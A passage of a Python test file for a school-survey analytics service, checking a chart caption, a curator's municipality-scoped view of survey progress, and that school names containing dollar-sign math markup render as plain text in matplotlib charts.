    assert ranking.caption.startswith("Средний индекс вовлечённости школ по муниципалитетам")
    assert "за 31 дн." in ranking.caption
    assert "(50 из 100)" in ranking.caption


async def test_a_curator_follows_a_per_person_survey_in_their_municipalities_only(
    session: AsyncSession, region: dict[str, Any]
) -> None:
    pulse = definition("pls", "person", ["director", "curator"], full=False)
    loaded = await surveys.load(session, None, pulse)
    await surveys.open_window(session, None, "pls", NOW + timedelta(days=3), NOW)
    tosno_director = next(
        p
        for p in await session.scalars(
            select(Participant).where(Participant.full_name == "Директор Три")
        )
    )
    await answer(session, tosno_director, loaded.survey, None, {"q_single": "a", "q_scale": 3}, NOW)
    progress = await analytics.survey_progress(session, region["c1"], loaded.survey.id)
    assert (progress.total.expected, progress.total.submitted) == (3, 0)  # d1, d2, c1: Кириши
    assert set(progress.municipalities) == {region["kirishi"]}


async def test_names_with_dollar_signs_are_drawn_as_text(
    session: AsyncSession, region: dict[str, Any], translator: Translator
) -> None:
    """matplotlib reads what stands between two «$» as mathematics: an imported name such as
    «Школа $\\frac{$» failed the whole chart with a parse error."""
    hostile = r"Школа $\frac{$ №1"
    await session.execute(update(Municipality).values(name=Municipality.name + r" $\frac{$"))
    await session.execute(update(School).values(short_name=hostile, full_name=hostile))
    await session.commit()
    session.expire_all()
    report = await _report(session)
    t = translator.for_locale("ru")
    for chart in (
        charts.response_rates(report.rates, report.places, t, "ru"),
        charts.question(report.distributions, "q_single", report.places, t, "ru"),
        charts.engagement_ranking(report.engagement, report.places, t),
    ):
        assert Image.open(io.BytesIO(chart.png())).format == "PNG"
